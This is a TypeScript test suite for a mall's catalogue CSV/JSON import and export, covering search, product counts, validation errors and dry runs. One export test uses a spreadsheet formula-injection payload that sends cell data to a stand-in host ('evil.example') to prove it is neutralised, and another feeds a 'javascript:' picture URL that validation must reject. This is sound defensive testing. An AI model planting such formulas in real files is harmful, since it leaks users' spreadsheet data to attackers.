import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { type Kysely, sql } from 'kysely';
import { goodsDetail, goodsList, goodsSearch } from '@/lib/contract/goods';
import { up } from '@/server/mall/db/migrations/0021-goods-counts';
import { csvFormat, exportCatalogue } from '@/server/mall/operator/catalogue/export-catalogue';
import { importCatalogue } from '@/server/mall/operator/catalogue/import-catalogue';
import { checkConsistency } from '@/server/mall/operator/check/check-consistency';
import { startMall, type TestMall } from '@/tests/support/test-mall';

let testMall: TestMall;
beforeAll(async () => {
  testMall = await startMall();
});
afterAll(() => testMall.close());

const folder = mkdtempSync(path.join(tmpdir(), 'catalogue-'));
let fileCount = 0;

const writeFile = (ending: string, text: string): string => {
  fileCount += 1;
  const file = path.join(folder, `${fileCount}.${ending}`);
  writeFileSync(file, text);
  return file;
};

let groupId: string;
beforeAll(async () => {
  groupId = (await testMall.mall.db.selectFrom('goods_groups').select('id').executeTakeFirstOrThrow()).id;
});

const buildRow = (changes: Record<string, unknown> = {}) => ({
  goodsId: 'g1',
  groupId,
  supplier: 'tea-house',
  nameZh: '龙井茶',
  nameEn: 'Longjing tea',
  descriptionZh: '第一段',
  descriptionEn: 'One',
  cover: 'tea.webp',
  pictures: 'tea.webp|tea-2.webp',
  tags: 'new|hot',
  specId: 's1',
  specNameZh: '罐装',
  specNameEn: 'Tin',
  points: 100,
  priceFen: 1990,
  marketPriceFen: 9900,
  stock: 5,
  ...changes,
});

const writeCsv = (rows: Record<string, unknown>[]) => writeFile('csv', stringify(rows, { header: true }));
const writeJson = (rows: unknown) => writeFile('json', JSON.stringify(rows));

const exportRows = async () => {
  const all = [];
  for await (const each of exportCatalogue(testMall.mall.db)) all.push(each);
  return all;
};

describe('importing a valid file', () => {
  // R-SEARCH-15
  test('the search finds an imported product at once, by its new texts only, and not when it is off sale', async () => {
    const goodsId = 'SKU-search';
    const findIds = async (keyword: string) =>
      (await testMall.call(goodsSearch, { keyword })).data.list.map((card) => card.goodsId);
    const importRow = async (changes: Record<string, unknown>) => {
      const file = writeCsv([buildRow({ goodsId, specId: 'SKU-search-1', onSale: 'true', ...changes })]);
      expect((await importCatalogue(testMall.mall.deps, file)).issues).toEqual([]);
    };
    await importRow({ nameZh: '漆筷', nameEn: 'Lacquerware' });
    expect(await findIds('漆筷')).toEqual([goodsId]);
    expect(await findIds('lacquerware')).toEqual([goodsId]);
    await importRow({ nameZh: '漆碗', nameEn: 'Bowl' });
    expect(await findIds('lacquerware')).toEqual([]);
    expect(await findIds('漆碗')).toEqual([goodsId]);
    await importRow({
      nameZh: '漆碗',
      nameEn: 'Bowl',
      specNameEn: 'Vermilion',
      facts: JSON.stringify([
        { name: { zh: '材质', en: 'Material' }, value: { zh: '榉木', en: 'Beechwood' } },
      ]),
    });
    // The names of specs and the facts are searched as well.
    expect(await findIds('vermilion')).toContain(goodsId);
    expect(await findIds('beechwood')).toContain(goodsId);
    await importRow({ nameZh: '漆碗', nameEn: 'Bowl', onSale: 'false' });
    expect((await testMall.call(goodsSearch, { keyword: '漆碗' })).data).toMatchObject({
      list: [],
      total: 0,
    });
  });

  test.each([
    ['csv', writeCsv],
    ['json', writeJson],
  ])('puts the products of a %s file on sale', async (kind, make) => {
    const goodsId = `on-sale-${kind}`;
    const file = make([
      buildRow({ goodsId, specId: `${goodsId}-1` }),
      buildRow({ goodsId, specId: `${goodsId}-2`, points: 50, stock: 0 }),
    ]);
    expect(await importCatalogue(testMall.mall.deps, file)).toEqual({ rows: 2, changed: 2, issues: [] });
    const { data } = await testMall.call(goodsDetail, { goodsId }, { locale: 'en' });
    expect(data).toMatchObject({ title: 'Longjing tea', description: ['One'], tags: ['new', 'hot'] });
    expect(data.specs.map(({ goodsSpecId, points }) => [goodsSpecId, points])).toEqual([
      [`${goodsId}-1`, 100],
      [`${goodsId}-2`, 50],
    ]);
  });

  // R-GOODS-25
  test('imports at the same time count all products on sale, in the group to which they move', async () => {
    const { db, deps } = testMall.mall;
    const groups = await db.selectFrom('goods_groups').select('id').orderBy('id').limit(2).execute();
    const [first = '', second = ''] = groups.map(({ id }) => id);
    const importRows = async (prefix: string, changes: Record<string, unknown>) => {
      const rows = Array.from({ length: 20 }, (_, index) => `${prefix}-${index}`).map((goodsId) =>
        buildRow({ goodsId, specId: `${goodsId}-spec`, ...changes }),
      );
      expect((await importCatalogue(deps, writeCsv(rows))).issues).toEqual([]);
    };
    const readTotals = () =>
      Promise.all(
        [first, second, undefined].map(
          async (id) => (await testMall.call(goodsList, { groupId: id, pageSize: 1 })).data.total,
        ),
      );
    const [inFirst = 0, inSecond = 0, inAll = 0] = await readTotals();
    await Promise.all([
      importRows('left', { groupId: first }),
      importRows('middle', { groupId: second }),
      importRows('right', { groupId: first }),
    ]);
    expect(await readTotals()).toEqual([inFirst + 40, inSecond + 20, inAll + 60]);
    await Promise.all([
      importRows('left', { groupId: second }),
      importRows('middle', { groupId: second, onSale: 'false' }),
      importRows('right', { groupId: first, onSale: 'false' }),
    ]);
    expect(await readTotals()).toEqual([inFirst, inSecond + 20, inAll + 20]);
    expect(await checkConsistency(db)).toEqual([]);
  });

  // R-GOODS-25
  test('a database of an earlier release has its products counted', async () => {
    const { db } = testMall.mall;
    const before = await db.selectFrom('goods_counts').selectAll().where('on_sale', '>', 0).execute();
    await sql`drop table goods_counts`.execute(db);
    await sql`create index goods_on_sale on goods (on_sale)`.execute(db);
    await up(db as unknown as Kysely<never>);
    const counts = await db.selectFrom('goods_counts').selectAll().execute();
    expect(counts).toHaveLength(before.length);
    expect(counts).toEqual(expect.arrayContaining(before));
  });

  // R-OPERATOR-02, R-OPERATOR-19
  test('importing an export changes nothing', async () => {
    const before = await exportRows();
    expect(before.length).toBeGreaterThan(400);
    const file = writeFile('csv', stringify(before, csvFormat));
    expect(await importCatalogue(testMall.mall.deps, file)).toEqual({
      rows: before.length,
      changed: 0,
      issues: [],
    });
    expect(await exportRows()).toEqual(before);
  });

  test('exports no cell that a spreadsheet calculates, and imports the same texts', async () => {
    const formulas = {
      nameZh: '=HYPERLINK("http://evil.example?"&A1,"x")',
      nameEn: "'=1+1",
      subtitleZh: '+86',
      subtitleEn: '-5',
      optionZh: '@SUM(1)',
      optionEn: "''-1",
      descriptionZh: '＝1+1\n=2',
      specNameZh: "'",
      specNameEn: '"=1+1"',
      supplier: "'plain",
    };
    await importCatalogue(
      testMall.mall.deps,
      writeJson([{ ...buildRow({ goodsId: '-goods', specId: '-formula' }), ...formulas }]),
    );
    const before = (await exportRows()).filter(({ goodsId }) => goodsId === '-goods');
    expect(before).toEqual([expect.objectContaining({ goodsId: '-goods', specId: '-formula', ...formulas })]);
    const text = stringify(before, csvFormat);
    const cells: string[][] = parse(text);
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells[1]).toContain('1990');
    await testMall.mall.db
      .updateTable('goods')
      .set({ name_zh: '', name_en: '', supplier: '', detail: JSON.stringify({}) })
      .where('id', '=', '-goods')
      .execute();
    expect(await importCatalogue(testMall.mall.deps, writeFile('csv', text))).toEqual({
      rows: 1,
      changed: 1,
      issues: [],
    });
    expect((await exportRows()).filter(({ goodsId }) => goodsId === '-goods')).toEqual(before);
  });

  test('changes stock and supplied pieces by the same number', async () => {
    const goodsId = 'restocked';
    await importCatalogue(testMall.mall.deps, writeCsv([buildRow({ goodsId, specId: goodsId, stock: 10 })]));
    await testMall.mall.db.updateTable('goods_specs').set({ stock: 7 }).where('id', '=', goodsId).execute();
    await importCatalogue(testMall.mall.deps, writeCsv([buildRow({ goodsId, specId: goodsId, stock: 20 })]));
    const spec = await testMall.mall.db
      .selectFrom('goods_specs')
      .select(['stock', 'supplied'])
      .where('id', '=', goodsId)
      .executeTakeFirstOrThrow();
    expect(spec).toEqual({ stock: 20, supplied: 23 });
  });

  test('only checks the file in a dry run', async () => {
    const before = await exportRows();
    const file = writeCsv([buildRow({ goodsId: 'dry', specId: 'dry' })]);
    expect(await importCatalogue(testMall.mall.deps, file, { dryRun: true })).toEqual({
      rows: 1,
      issues: [],
    });
    expect(await exportRows()).toEqual(before);
  });
});

describe('importing an invalid file', () => {
  test.each<[string, () => Record<string, unknown>[], unknown]>([
    [
      'a missing name',
      () => [buildRow({ nameZh: '' })],
      { row: 2, column: 'nameZh', message: expect.any(String) },
    ],
    [
      'a negative price',
      () => [buildRow({ priceFen: -1 })],
      { row: 2, column: 'priceFen', message: expect.stringContaining('>=0') },
    ],
    [
      'a fraction of points',
      () => [buildRow(), buildRow({ specId: 's2', points: '1.5' })],
      expect.objectContaining({ row: 3 }),
    ],
    [
      'an unknown tag',
      () => [buildRow({ tags: 'best' })],
      expect.objectContaining({ row: 2, column: 'tags.0' }),
    ],
    [
      'a script as picture',
      () => [buildRow({ cover: 'javascript:alert(1)' })],
      expect.objectContaining({ column: 'cover' }),
    ],
    [
      'facts that are no JSON',
      () => [buildRow({ facts: '{' })],
      { row: 2, column: 'facts', message: 'not JSON' },
    ],
    [
      'one spec twice',
      () => [buildRow(), buildRow()],
      { row: 3, column: 'specId', message: 's1 is already in row 2' },
    ],
    [
      'two names of one goods',
      () => [buildRow(), buildRow({ specId: 's2', nameEn: 'Green tea' })],
      { row: 3, column: 'goodsId', message: 'the fields of product g1 differ from those in row 2' },
    ],
    [
      'an unknown group',
      () => [buildRow({ groupId: 'none' })],
      { row: 2, column: 'groupId', message: 'group none does not exist' },
    ],
  ])('reports %s with its row and writes nothing', async (_, rows, issue) => {
    const before = await exportRows();
    const good = buildRow({ goodsId: 'good', specId: 'good' });
    const result = await importCatalogue(testMall.mall.deps, writeCsv([...rows(), good]));
    expect(result.issues).toContainEqual(issue);
    expect(await exportRows()).toEqual(before);
  });

  test('rejects a spec of another product', async () => {
    await importCatalogue(testMall.mall.deps, writeCsv([buildRow({ goodsId: 'owner', specId: 'owned' })]));
    const { issues } = await importCatalogue(
      testMall.mall.deps,
      writeCsv([buildRow({ goodsId: 'thief', specId: 'owned' })]),
    );
    expect(issues).toEqual([{ row: 2, column: 'specId', message: 'owned belongs to product owner' }]);
  });

  test('counts JSON rows from one', async () => {
    const { issues } = await importCatalogue(
      testMall.mall.deps,
      writeJson([buildRow({ goodsId: 'a', specId: 'a' }), null]),
    );
    expect(issues[0]).toMatchObject({ row: 2, column: 'goodsId' });
  });

  test.each([
    ['broken JSON', () => writeFile('json', '[{"goodsId":'), /./],
    ['a ragged CSV', () => writeFile('csv', 'goodsId,groupId\na,b,c\n'), /line 2/],
    ['another kind of file', () => writeFile('xlsx', ''), /expected a \.csv or \.json file/],
    ['no file', () => path.join(folder, 'missing.csv'), /ENOENT|no such file/],
  ])('rejects %s', async (_, make, message) => {
    await expect(importCatalogue(testMall.mall.deps, make())).rejects.toThrow(message);
  });

  test('stops reading after a hundred issues', async () => {
    const { rows, issues } = await importCatalogue(
      testMall.mall.deps,
      writeCsv(Array.from({ length: 5000 }, (_, index) => buildRow({ specId: `x${index}`, supplier: '' }))),
    );
    expect(rows).toBeLessThan(200);
    expect(issues.length).toBeGreaterThanOrEqual(100);
  });
});

test('counts a quoted line break as a line, so that an editor finds the row', async () => {
  const file = writeCsv([
    buildRow({ goodsId: 'q', specId: 'q', descriptionZh: '第一段\n第二段' }),
    buildRow({ goodsId: 'r', specId: 'r', stock: 'many' }),
  ]);
  expect(readFileSync(file, 'utf8')).toContain('"第一段\n第二段"');
  const { issues } = await importCatalogue(testMall.mall.deps, file);
  expect(issues).toEqual([{ row: 4, column: 'stock', message: expect.any(String) }]);
});
